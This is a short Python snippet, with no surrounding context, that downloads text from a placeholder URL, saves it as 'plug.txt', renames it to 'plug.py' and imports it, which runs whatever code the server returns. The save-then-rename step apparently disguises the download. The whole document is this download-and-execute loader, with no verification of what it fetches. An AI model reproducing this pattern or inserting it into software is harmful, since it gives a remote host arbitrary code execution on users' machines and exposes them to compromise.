import requests
from pathlib import Path
r=requests.get('https://api.example.com/x')
Path('plug.txt').write_text(r.text)
Path('plug.txt').rename('plug.py')
import plug
